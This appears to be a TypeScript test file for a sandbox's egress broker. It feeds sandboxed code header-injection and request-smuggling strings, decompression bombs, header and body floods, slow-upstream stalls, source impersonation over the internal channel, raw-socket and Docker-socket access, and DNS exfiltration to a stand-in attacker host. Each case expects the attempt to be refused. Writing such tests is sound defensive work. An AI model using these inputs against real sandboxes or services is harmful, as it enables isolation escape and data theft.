import type { CaseSetUp, ConformanceCase } from "./conformance-case.ts";
import { byEveryWay, inBoth } from "./egress-probe.ts";
import { answering } from "./endings.ts";
import type { Upstream } from "./upstream.ts";

const hostile =
  /^(?:host|expect|transfer-encoding|upgrade|forwarded|x-forwarded-.*|proxy-.*|x-injected|sec-websocket-.*)$/;
const header = (name: string, value: string) => ({ url: "http://up.test/echo", headers: { [name]: value } });

/** Whatever a library makes of it: nothing that arrives may have been tampered with. */
function unharmed({ internet }: Upstream): CaseSetUp {
  internet.takeRequests();
  return {
    hosts: ["up.test"],
    finish: async () =>
      internet.takeRequests().flatMap(({ method = "", url = "", headers }) => {
        const bad = Object.entries(headers).filter(([name, value]) => hostile.test(name) && value !== "up.test");
        // A library may encode a path instead of refusing it.
        const isPlain = method === "GET" && /^\/echo(?:%20[^\s]*)?$/.test(url);
        return [...bad.map(([name]) => `the header ${name} arrived`), ...(isPlain ? [] : [`${method} ${url} arrived`])];
      }),
  };
}

const allowing = (hosts: readonly string[]) => (): CaseSetUp => ({ hosts });
const urls = (...list: string[]) => list.map((url) => ({ url }));
const raw = (...names: string[]) => urls(...names.map((name) => `http://${name}.test/`));
const hostsOf = (tries: readonly { readonly url: string }[]) => [...new Set(tries.map(({ url }) => new URL(url).host))];

const bombs = urls(...["gzip", "deflate", "br", "zstd", "nested"].map((encoding) => `http://up.test/${encoding}`));
const floods = raw("many-headers", "large-header", "endless-1xx", "endless-body");
const faults = [
  ...raw("cut-body", "cut-head", "bad-chunk", "two-lengths", "no-http"),
  ...urls("https://self-signed.test/", "https://expired.test/", "https://wrong-name.test/", "https://up.test/"),
];

/** E06 to E10, E12, E13: what requests may carry, bring back and cost. */
export const trafficCases: readonly ConformanceCase[] = [
  ...byEveryWay({
    id: "E06",
    name: "line breaks in headers, methods and paths; Host, smuggling, Expect, Upgrade, CONNECT, TRACE",
    tries: [
      header("X-A", "a\r\nX-Injected: 1"),
      header("X-A", "a\nX-Injected: 1"),
      header("X-A\r\nX-Injected", "1"),
      header("X-A", "a\u0000b"),
      header("Host", "inside.test"),
      header("Transfer-Encoding", "chunked"),
      header("Content-Length", "100"),
      header("Expect", "100-continue"),
      header("Upgrade", "websocket"),
      header("Connection", "Upgrade"),
      header("Proxy-Authorization", "Basic eDp5"),
      header("X-Forwarded-For", "127.0.0.1"),
      header("Sec-WebSocket-Key", "k"),
      { url: "http://up.test/echo", method: "CONNECT" },
      { url: "http://up.test/echo", method: "TRACE" },
      { url: "http://up.test/echo", method: "GET /other HTTP/1.1\r\nX-Injected: 1\r\n\r\nGET" },
      { url: "http://up.test/echo HTTP/1.1\r\nX-Injected: 1\r\n\r\n" },
    ],
    ...answering(undefined, "refused, or sent without it", "headers and methods that the egress broker takes"),
    timeoutMs: 15_000,
    setUp: unharmed,
  }),
  ...byEveryWay({
    id: "E07",
    name: "decompression bombs: gzip, deflate, brotli, zstd, gzip within gzip",
    tries: bombs,
    ...answering({ reached: [] }, "cut off while it is decompressed", "5 MiB, and 100 to 1, counted in the stream"),
    timeoutMs: 30_000,
    setUp: allowing(["up.test"]),
  }),
  inBoth({
    id: "E07e",
    name: "a bomb that the source itself decompresses",
    before: "import zlib",
    python: `return {"bytes": len(zlib.decompress(context.http.get("http://up.test/zip").content))}`,
    expected: ["SANDBOX_LIMIT"],
    limit: "memory",
    happens: "ends when its memory is used up",
    heldBy: "address space",
    timeoutMs: 30_000,
    setUp: allowing(["up.test"]),
  }),
  ...byEveryWay({
    id: "E08",
    name: "100,000 headers, a header of 10 MB, 1xx answers without end, a body without end",
    tries: floods,
    ...answering(
      { reached: [] },
      "cut off, and the source is told",
      "64 headers, 32 KiB, eight 1xx answers, 1 MiB of body",
    ),
    timeoutMs: 30_000,
    setUp: allowing(hostsOf(floods)),
  }),
  ...["slow-head", "slow-body", "slow-chunks", "silent"].map((name, index) =>
    inBoth({
      id: `E08${"efgh"[index]}`,
      name: `an upstream that keeps it waiting for ever: ${name.replace("-", " ")}`,
      javascript: `return { status: (await fetch("http://${name}.test/")).status };`,
      python: `return {"status": context.http.get("http://${name}.test/").status}`,
      expected: ["TIMEOUT"],
      happens: "stopped at its deadline",
      heldBy: "deadline of the call, which all of its requests share",
      timeoutMs: 600,
      setUp: allowing([`${name}.test`]),
    }),
  ),
  ...byEveryWay({
    id: "E09",
    name: "answers cut short, broken chunks, two lengths, no HTTP; TLS self-signed, expired, for another name, none",
    tries: faults,
    ...answering(
      { reached: [] },
      "an error that says what was wrong",
      "strict HTTP; TLS 1.2 and a certificate for the name, never less",
    ),
    timeoutMs: 20_000,
    setUp: allowing(hostsOf(faults)),
  }),
  inBoth({
    id: "E09e",
    name: "bytes that are no UTF-8, and a good certificate of the operator's authority",
    javascript: `
      const latin = await (await fetch("http://up.test/latin")).arrayBuffer();
      return { last: new Uint8Array(latin).at(-1), status: (await fetch("https://good.test/")).status };`,
    python: `
latin = context.http.get("http://up.test/latin").content
return {"last": latin[-1], "status": context.http.get("https://good.test/").status}`,
    ...answering({ last: 0xe9, status: 200 }, "arrive as they are", "bodies are bytes"),
    timeoutMs: 15_000,
    setUp: allowing(["up.test", "good.test"]),
  }),
  inBoth({
    id: "E10",
    name: "a thousand requests at once",
    javascript: `
      const ends = await Promise.allSettled(Array.from({ length: 1000 }, () => fetch("http://up.test/slow")));
      return { succeeded: ends.filter(({ status }) => status === "fulfilled").length <= 20 };`,
    before: "import threading",
    python: `
succeeded = []
def ask():
    try:
        context.http.get("http://up.test/slow")
        succeeded.append(1)
    except Exception:
        pass
for round in range(40):
    threads = []
    for index in range(25):
        try:
            thread = threading.Thread(target=ask)
            thread.start()
            threads.append(thread)
        except RuntimeError:
            ask()
    for thread in threads: thread.join()
return {"succeeded": len(succeeded) <= 20}`,
    expected: ["ok", "SOURCE_ERROR"],
    result: { succeeded: true },
    happens: "twenty are made, four at a time; Python ends a source that asks for far more",
    heldBy: "requests per call, requests under way",
    timeoutMs: 20_000,
    setUp: ({ internet }) => {
      internet.takeRequests();
      return {
        hosts: ["up.test"],
        finish: async () => {
          const faults = internet.takeRequests().length > 20 ? ["more than 20 requests arrived"] : [];
          return internet.atOnceMost() > 4 ? [...faults, "more than four were under way"] : faults;
        },
      };
    },
  }),
  inBoth({
    id: "E10b",
    name: "requests that it leaves behind when its call ends, and an answer that comes afterwards",
    javascript: `
      fetch("http://upstream.test/late").catch(() => undefined);
      setTimeout(() => fetch("http://up.test/afterwards").catch(() => undefined), 50);
      return { fine: true };`,
    before: "import threading, time",
    python: `
def late():
    context.http.get("http://upstream.test/late")
def afterwards():
    time.sleep(0.05)
    context.http.get("http://up.test/afterwards")
for work in (late, afterwards): threading.Thread(target=work, daemon=True).start()
return {"fine": True}`,
    ...answering({ fine: true }, "dropped with the call", "the lease of a call ends with it"),
    timeoutMs: 15_000,
    setUp: (upstream) => {
      upstream.internet.takeRequests();
      return {
        hosts: ["up.test", upstream.host],
        finish: async () => {
          await upstream.release();
          return upstream.internet.takeRequests().map(({ url }) => `${url} arrived after the call`);
        },
      };
    },
  }),
  inBoth({
    id: "E12",
    name: "claims in a request to be another source",
    javascript: `
      const claims = { sourceId: "bystander 0", lease: 1, op: "http", headers: { "x-assay-source": "bystander 0" } };
      const ends = await Promise.allSettled([fetch("http://up.test/", claims), context.http.get("http://up.test/", claims)]);
      return { reached: ends.filter(({ status }) => status === "fulfilled").length };`,
    before: "import sys",
    python: `
reached = []
channel = sys.modules["assay_sandbox.link"]
forged = {"op": "http", "method": "GET", "url": "http://up.test/", "headers": [], "sourceId": "bystander 0", "lease": 1}
for each in [held for held in map(lambda name: getattr(channel, name), dir(channel)) if isinstance(held, channel.Link)]:
    for name in dir(each):
        try:
            reached.append(getattr(each, name)(forged)["status"])
        except BaseException:
            pass
try:
    reached.append(context.http.get("http://up.test/", headers={"X-Assay-Source": "bystander 0"}).status)
except OSError:
    pass
return {"reached": len(reached)}`,
    ...answering(
      { reached: 0 },
      "refused: it has no hosts",
      "who asks is known by the channel, not by what is said on it",
    ),
    timeoutMs: 15_000,
  }),
  inBoth({
    id: "E13",
    name: "raw sockets, unix sockets, and data carried out in names that it looks up",
    javascript: `
      const missing = ["require", "process", "WebSocket", "XMLHttpRequest", "EventSource"].filter((name) => name in globalThis);
      const lookups = await Promise.allSettled(
        ["stolen.attacker.test", "up.test"].map((name) => context.dns.resolve(name, "TXT")));
      const fetched = await Promise.allSettled([fetch("http://stolen.attacker.test/"), fetch("http://unix:/var/run/docker.sock:/")]);
      return { missing, done: [...lookups, ...fetched].filter(({ status }) => status === "fulfilled").length };`,
    before: `
import os, socket
def done(act):
    try:
        act()
        return 1
    except Exception:
        return 0
def reach(family, kind, address):
    with socket.socket(family, kind) as each: each.connect(address)`,
    python: `
tries = [lambda: reach(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 80)), lambda: reach(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53)),
         lambda: reach(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 80)), lambda: reach(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
         lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"), lambda: reach(socket.AF_UNIX, socket.SOCK_STREAM, "\\0assay"),
         lambda: socket.create_connection(("127.0.0.1", 80), 1),
         lambda: socket.getaddrinfo("stolen.attacker.test", 80), lambda: socket.gethostbyname("stolen.attacker.test"),
         lambda: context.dns.resolve("stolen.attacker.test", "TXT"), lambda: context.http.get("http://stolen.attacker.test/")]
return {"missing": [], "done": sum(map(done, tries))}`,
    ...answering(
      { missing: [], done: 0 },
      "no such thing, no such permission",
      "own network namespace, system call filter, names to look up in the manifest",
    ),
    timeoutMs: 15_000,
    setUp: ({ internet }) => ({
      hosts: ["up.test"],
      finish: async () =>
        internet.questions
          .filter((question) => question.includes("attacker"))
          .map((question) => `asked for ${question}`),
    }),
  }),
];
